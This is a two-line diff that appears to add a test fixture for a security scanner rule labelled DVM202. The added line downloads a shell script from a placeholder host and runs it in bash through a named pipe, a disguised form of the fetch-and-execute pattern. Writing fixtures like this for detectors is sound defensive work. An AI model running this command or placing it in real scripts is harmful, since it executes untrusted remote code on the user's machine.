@@ -1,0 +1,2 @@
+# expect: DVM202
+p=/tmp/f; mkfifo $p; curl -s https://x.example.org/i.sh > $p & bash < $p
